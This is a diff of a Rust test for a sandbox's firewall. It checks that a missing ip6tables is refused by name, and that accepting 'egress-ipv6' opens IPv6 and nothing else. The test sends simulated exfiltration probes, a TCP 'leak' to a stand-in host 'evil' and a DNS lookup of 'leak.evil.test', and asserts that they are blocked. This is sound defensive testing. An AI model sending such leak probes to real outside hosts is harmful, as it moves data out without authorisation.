@@ -2,8 +2,8 @@
 
 use serde_json::json;
 
-use super::{data, least, not_held, outcomes, refused, seccomp};
-use crate::rig::{BoxOptions, Rig, RunningBox, host};
+use super::{data, least, not_held, outcomes, refused, seccomp, without};
+use crate::rig::{AGENT, BoxOptions, Rig, RunningBox, host};
 
 /// Exactly this protection is not held, in JSON and on the screen, also when it is looked at again.
 #[track_caller]
@@ -74,6 +74,36 @@ fn a_shared_network_is_given_up_by_its_name() {
     refused(&outcomes(&rig, &[least()]).remove(0), &said);
     let guest = rig.boot(&least().env("INNKEEPER_BOOT_ACCEPT", "shared-network"));
     only_this_is_given_up(&guest, "shared-network", "br-others");
+}
+
+/// An image without ip6tables on a kernel that is programmed by iptables: IPv6 can't be filtered.
+#[test]
+fn f07_the_filter_of_ipv6_is_given_up_by_its_name() {
+    let Some(rig) = Rig::new() else { return };
+    let outside = host("evil_v6");
+    let evil = ["tcp", &outside, "80", "GET / HTTP/1.0\r\n\r\n"];
+    assert!(rig.outside(&evil).ok());
+    let programs = ["", "-nft", "-legacy"].map(|variant| {
+        ["", "-save", "-restore"].map(|kind| format!("/usr/sbin/ip6tables{variant}{kind}")).join(" ")
+    });
+    let image = without(&rig, &programs.join(" "));
+    let half = BoxOptions::new().image(&image).env("INNKEEPER_NETWORK_BACKEND", "iptables");
+    let said = ["nothing here can hold the firewall", "ip6tables", "INNKEEPER_BOOT_ACCEPT=egress-ipv6"];
+    refused(&outcomes(&rig, std::slice::from_ref(&half)).remove(0), &said);
+    // Trying iptables makes its tables; they stay, and nothing is in them.
+    let rules = rig.inside("nft list ruleset; iptables-legacy-save").expect("the rules");
+    assert!(!rules.to_lowercase().contains("innkeeper") && !rules.contains("-A "), "{rules}");
+    assert!(
+        rig.outside(&evil).ok() && rig.outside(&["tcp", &host("evil"), "80", "x"]).ok(),
+        "as open as it was"
+    );
+    let guest = rig.boot(&half.env("INNKEEPER_BOOT_ACCEPT", "egress-ipv6"));
+    only_this_is_given_up(&guest, "egress-ipv6", "nothing filters IPv6");
+    // That is what was given up, and nothing else.
+    assert!(guest.client(AGENT, &evil).ok());
+    assert!(!guest.client(AGENT, &["tcp", &host("evil"), "80", "leak"]).ok());
+    assert_eq!(guest.client(AGENT, &["dns", "8.8.8.8", "leak.evil.test"]).out, "NXDOMAIN\n");
+    assert!(!rig.world.saw("leak"));
 }
 
 /// The others are what a box is for.
